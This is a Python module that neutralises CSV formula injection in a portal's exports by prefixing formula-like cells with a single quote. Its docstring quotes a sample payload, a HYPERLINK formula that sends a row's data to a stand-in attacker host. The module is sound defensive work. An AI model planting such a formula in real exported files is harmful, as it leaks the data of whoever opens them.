"""A CSV cell that a spreadsheet shows as text: never a formula, never a control character.

Ministries open the portal's CSV files in Excel or LibreOffice, which run a cell that
starts with `=`, `+`, `-` or `@` (and, through DDE, a tab or a carriage return first) as a
formula: `=HYPERLINK("https://evil.example/?d="&A2,"Xem")` sends the row away. As OWASP
recommends (CSV Injection), such a cell is prefixed with a single quote, which the
spreadsheet shows as text; the CSV writer quotes every cell that holds a separator, a
quote or a line break. A number stays a number, minus sign included.
"""

from __future__ import annotations

import re

from pbgdpl.safety.text import without_controls

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def formula_like(text: str) -> bool:
    """Tell whether a spreadsheet would run `text` as a formula if it were a cell as is."""
    return text.startswith(FORMULA_START) and not NUMBER.fullmatch(text)


def csv_cell(value: object) -> str:
    """Return `value` as the text of one CSV cell that no spreadsheet runs."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return str(value)
    text = without_controls(str(value).replace("\r\n", "\n"))
    if formula_like(text):
        return "'" + text
    return text
